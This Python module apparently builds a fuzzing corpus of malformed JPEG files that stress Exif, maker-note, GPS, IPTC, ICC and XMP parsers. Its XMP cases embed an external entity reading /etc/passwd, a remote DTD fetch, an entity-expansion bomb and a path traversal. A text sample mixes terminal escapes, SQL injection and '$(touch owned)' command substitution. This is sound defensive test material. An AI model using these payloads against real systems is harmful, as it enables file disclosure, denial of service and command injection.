"""JPEG that lies: segments, Exif in it, Photoshop resources, IPTC, XMP, ICC."""

import struct

from hostile.parts import (
    ASCII,
    DESCRIPTION,
    EXIF,
    GPS,
    LONG,
    MAKER_NOTE,
    RATIONAL,
    UNDEFINED,
    XMP_NAME,
    Attacks,
    cuts,
    dataset,
    directory,
    exif,
    jpeg,
    long,
    photoshop,
    rdf,
    resource,
    segment,
    tiff,
    xmp,
)

MAKERS = (b"Canon\0", b"NIKON CORPORATION\0", b"OLYMPUS IMAGING\0", b"SONY\0", b"FUJIFILM\0")
NOTES = {
    "canon": b"",
    "nikon": b"Nikon\0\2\x10\0\0II*\0\x08\0\0\0",
    "olympus": b"OLYMPUS\0II\3\0",
    "sony": b"SONY DSC \0\0\0",
    "fuji": b"FUJIFILM\x0c\0\0\0",
}


def of_segments() -> Attacks:
    """Yield segments whose lengths and numbers lie."""
    for length in (0, 1, 2, 65535):
        yield f"jpeg_segment_length_{length}", jpeg(segment(0xE1, b"Exif\0\0II*\0", length=length))
    yield "jpeg_100000_markers", jpeg(b"\xff\xfe\x00\x02" * 100_000)
    yield "jpeg_100000_fill_bytes", b"\xff\xd8" + b"\xff" * 100_000 + jpeg()[2:]
    yield "jpeg_1000_starts", b"\xff\xd8" * 1000 + jpeg()
    yield "jpeg_nothing_but_start", b"\xff\xd8"
    yield "jpeg_start_and_end", b"\xff\xd8\xff\xd9"
    yield "jpeg_500_exif_segments", jpeg(exif(tiff(directory([]))) * 500)
    yield (
        "jpeg_size_0x0",
        jpeg().replace(b"\xff\xc0\0\x0b\x08\0\x08\0\x08", b"\xff\xc0\0\x0b\x08\0\0\0\0"),
    )
    yield "jpeg_size_65535", jpeg().replace(b"\x08\0\x08\0\x08\1", b"\x08\xff\xff\xff\xff\1")
    yield "jpeg_comment_of_controls", jpeg(segment(0xFE, bytes(range(256)) * 200))
    yield "jpeg_appended_50_mb_hole", jpeg() + bytes(50 << 20)
    yield "jpeg_endless_scan", jpeg(end=b"\xff\x00" * 500_000)
    yield "jpeg_mpf_offsets_beyond", jpeg(segment(0xE2, b"MPF\0" + mpf(0xFFFFFFF0, 0xFFFFFFF0)))
    yield "jpeg_mpf_points_at_itself", jpeg(segment(0xE2, b"MPF\0" + mpf(2, 0)))
    yield "jpeg_flashpix_counts", jpeg(segment(0xE2, b"FPXR\0\0\1\xff\xff" + bytes(60)) * 50)
    yield "jpeg_c2pa_box_of_zero", jpeg(segment(0xEB, b"JP\0\1\0\0\0\1\0\0\0\0jumb"))
    yield (
        "jpeg_c2pa_box_of_4_gb",
        jpeg(segment(0xEB, b"JP\0\1\0\0\0\1\xff\xff\xff\xffjumb" + bytes(30))),
    )
    yield from cuts("jpeg", jpeg(exif(tiff(described(b"A tram\0"))), end=b"\xff\xd9"), *STRUCTURES)


STRUCTURES = (
    b"Exif\0\0",
    b"II*\0",
    b"A tram\0",
    b"\xff\xdb\0C",
    b"\xff\xc0\0\x0b",
    b"\xff\xda\0\x08",
)


def described(text: bytes, count: int | None = None, at: int = 26) -> bytes:
    """Write a directory with a caption behind it."""
    entry = (DESCRIPTION, ASCII, len(text) if count is None else count, long(at))
    return directory([entry]) + text


def mpf(size: int, offset: int) -> bytes:
    """Write an index of two pictures in one file."""
    entries = struct.pack("<IIIHH", 0x030000, size, offset, 0, 0) * 2
    return tiff(
        directory([(0xB001, LONG, 1, long(2)), (0xB002, UNDEFINED, 32, long(38))]), tail=entries
    )


def of_exif() -> Attacks:
    """Yield Exif whose counts, offsets and values lie."""
    for count in (0, 1, 0x7FFFFFFF, 0xFFFFFFFF):
        yield f"exif_caption_count_{count}", jpeg(exif(tiff(described(b"A tram\0", count))))
    for at in (0, 4, 8, 0xFFFFFFFF):
        yield f"exif_caption_at_{at}", jpeg(exif(tiff(described(b"A tram\0", at=at))))
    for kind in (0, 13, 14, 129, 65535):
        entry = (DESCRIPTION, kind, 1000, long(8))
        yield f"exif_type_{kind}", jpeg(exif(tiff(directory([entry]))))
    same = [(DESCRIPTION, ASCII, 5, long(8 + 2 + 12 * 2000 + 4))] * 2000
    yield "exif_2000_overlapping_tags", jpeg(exif(tiff(directory(same), tail=b"tram\0")))
    huge = [(0x8000 + n, UNDEFINED, 60_000, long(8)) for n in range(1000)]
    yield "exif_1000_tags_over_the_whole", jpeg(exif(tiff(directory(huge), tail=bytes(40_000))))
    for name, maker in zip(NOTES, MAKERS, strict=True):
        for count in (5, 0xFFFF):
            yield (
                f"exif_maker_note_{name}_{count}",
                jpeg(exif(maker_note(maker, NOTES[name], count))),
            )
    coords = struct.pack("<6I", 22, 0, 16, 0, 0xFFFFFFFF, 0)
    for name, value in (
        ("zero_denominators", coords),
        ("all_zero", bytes(24)),
        ("ones", b"\xff" * 24),
    ):
        yield f"exif_gps_{name}", jpeg(exif(gps(value)))
    yield "exif_gps_nan", jpeg(exif(gps(struct.pack("<3d", *[float("nan")] * 3), kind=12)))
    yield "exif_gps_infinite", jpeg(exif(gps(struct.pack("<3d", *[float("inf")] * 3), kind=12)))
    yield "exif_gps_1000_rationals", jpeg(exif(gps(coords * 300, count=1000)))
    for name, text in TEXTS.items():
        yield f"exif_text_{name}", jpeg(exif(tiff(described(text + b"\0"))))
        comment = b"UNICODE\0" + text
        yield f"exif_comment_{name}", jpeg(exif(commented(comment)))


TEXTS = {
    "bidi": "\u202egnp.\u202d tram \u2066\u2069".encode(),
    "controls": bytes(range(1, 32)) * 20,
    "lone_surrogates": b"\xed\xa0\x80\xed\xb0\x80 \xd8\x00",
    "odd_utf16": b"\xff\xfet\0r\0a",
    "combining_20000": ("a" + "\u0301" * 20_000).encode(),
    "escapes": b"\x1b]0;owned\x07\x1b[2J; DROP TABLE assets; -- $(touch owned) `touch owned`",
}


def commented(comment: bytes) -> bytes:
    """Write Exif with a user comment."""
    below = directory([(0x9286, UNDEFINED, len(comment), long(44))])
    return tiff(directory([(EXIF, LONG, 1, long(26))]), below, tail=comment)


def maker_note(maker: bytes, note: bytes, count: int) -> bytes:
    """Write Exif with a maker's own directory that says to have so many entries."""
    entries = [(n, UNDEFINED, 0xFFFFFF, long(0xFFFFFF00 + n)) for n in range(5)]
    inner = note + directory(entries, count=count, following=8)
    top = [(0x010F, ASCII, len(maker), long(100)), (EXIF, LONG, 1, long(38))]
    below = directory([(MAKER_NOTE, UNDEFINED, len(inner), long(140))])
    body = tiff(directory(top), below).ljust(100, b"\0") + maker
    return body.ljust(140, b"\0") + inner


def gps(value: bytes, *, kind: int = RATIONAL, count: int = 3) -> bytes:
    """Write Exif with a place."""
    entries = [
        (1, ASCII, 2, b"N\0\0\0"),
        (2, kind, count, long(80)),
        (3, ASCII, 2, b"E\0\0\0"),
        (4, kind, count, long(80)),
    ]
    body = tiff(directory([(GPS, LONG, 1, long(26))]), directory(entries))
    return body.ljust(80, b"\0") + value


def of_blocks() -> Attacks:
    """Yield Photoshop resources and IPTC datasets whose lengths and counts lie."""
    for length in (0, 0x7FFFFFFF, 0xFFFFFFFF):
        yield f"photoshop_length_{length}", jpeg(photoshop(resource(0x0404, b"x", length=length)))
    yield "photoshop_5000_resources", jpeg(photoshop(*[resource(0x0404, b"")] * 5000))
    yield (
        "photoshop_name_overlong",
        jpeg(photoshop(resource(0x0404, b"ab", name=b"\xff" + b"n" * 20))),
    )
    yield "iptc_10000_keywords", jpeg(photoshop(resource(0x0404, dataset(2, 25, b"") * 10_000)))
    yield (
        "iptc_length_beyond",
        jpeg(photoshop(resource(0x0404, dataset(2, 120, b"x", length=32767)))),
    )
    extended = b"\x1c\2\x78\x80\4\xff\xff\xff\xff" + b"x" * 40
    yield "iptc_extended_length_4_gb", jpeg(photoshop(resource(0x0404, extended)))
    negative = b"\x1c\2\x78\xff\xff" + b"\xff" * 100
    yield "iptc_extended_length_of_length", jpeg(photoshop(resource(0x0404, negative)))
    odd = dataset(1, 90, b"\x1b%G") + dataset(2, 120, b"\xe6\xb8\xaf\xe5\xb2")
    yield "iptc_utf8_cut_in_a_character", jpeg(photoshop(resource(0x0404, odd)))
    yield "iptc_only_markers", jpeg(photoshop(resource(0x0404, b"\x1c" * 60_000)))
    for count in (0, 255):
        body = b"ICC_PROFILE\0" + bytes((count, 1)) + b"\xff" * 60
        yield f"icc_part_{count}_of_1", jpeg(segment(0xE2, body))
    profile = (
        b"\xff\xff\xff\xff" + bytes(124) + b"\xff\xff\xff\xff" + b"desc\0\0\0\x84\xff\xff\xff\xff"
    )
    yield "icc_4_billion_tags", jpeg(segment(0xE2, b"ICC_PROFILE\0\1\1" + profile))


def of_xmp() -> Attacks:
    """Yield XMP that resolves, multiplies, nests or never ends."""
    entity = b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
    yield "xmp_external_entity", jpeg(xmp(rdf(b"<dc:title>&e;</dc:title>", before=entity)))
    there = b"'http://192.0.2.1/x.dtd'"
    remote = b"<!DOCTYPE x SYSTEM " + there + b" [<!ENTITY % p SYSTEM " + there + b"> %p;]>"
    yield "xmp_remote_entity", jpeg(xmp(rdf(b"<dc:title>x</dc:title>", before=remote)))
    laughs = b"<!DOCTYPE x [<!ENTITY a0 'ha'>" + b"".join(
        b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)
    )
    yield "xmp_entity_bomb", jpeg(xmp(rdf(b"<dc:title>&a9;</dc:title>", before=laughs + b"]>")))
    for depth in (200, 5000):
        nested = b"<q:a>" * depth + b"deep" + b"</q:a>" * depth
        yield f"xmp_{depth}_deep", jpeg(xmp(rdf(nested)))
    yield "xmp_5000_unclosed", jpeg(xmp(rdf(b"<q:a>" * 5000)))
    items = b"<rdf:Bag>" + b"<rdf:li>k</rdf:li>" * 3000 + b"</rdf:Bag>"
    yield "xmp_3000_keywords", jpeg(xmp(rdf(b"<dc:subject>" + items + b"</dc:subject>")))
    yield "xmp_3000_attributes", jpeg(xmp(rdf(b"<q:a " + b"q:b='' " * 3000 + b"/>")))
    lang = b"".join(b"<rdf:li xml:lang='x-%d'>t</rdf:li>" % n for n in range(1000))
    yield (
        "xmp_1000_languages",
        jpeg(xmp(rdf(b"<dc:title><rdf:Alt>" + lang + b"</rdf:Alt></dc:title>"))),
    )
    yield "xmp_path_escape", jpeg(xmp(rdf(b"<dc:source>../../../../etc/passwd</dc:source>")))
    yield (
        "xmp_utf16_odd",
        jpeg(xmp(b"\xff\xfe" + rdf(b"<dc:title>t</dc:title>").decode().encode("utf-16-le")[:-1])),
    )
    yield "xmp_utf32", jpeg(xmp(rdf(b"<dc:title>t</dc:title>").decode().encode("utf-32")))
    yield "xmp_of_nul", jpeg(xmp(bytes(60_000)))
    yield "xmp_of_brackets", jpeg(xmp(b"<" * 60_000))
    yield "xmp_comment_unclosed", jpeg(xmp(b"<!--" + b"-" * 60_000))
    guid = XMP_EXTENDED + b"0" * 32
    for name, said, offset in (("4_gb", 0xFFFFFFFF, 0), ("offset_beyond", 100, 0xFFFFFFF0)):
        part = guid + struct.pack(">II", said, offset) + b"<x/>" * 20
        yield f"xmp_extended_{name}", jpeg(xmp(NOTED), segment(0xE1, part))
    yield "xmp_100_packets", jpeg(xmp(rdf(b"<dc:title>t</dc:title>")) * 100)
    yield "xmp_named_xmp_nothing_else", jpeg(segment(0xE1, XMP_NAME))


XMP_EXTENDED = b"http://ns.adobe.com/xmp/extension/\0"
NOTED = rdf(
    b"<n:HasExtendedXMP xmlns:n='http://ns.adobe.com/xmp/note/'>"
    + b"0" * 32
    + b"</n:HasExtendedXMP>"
)
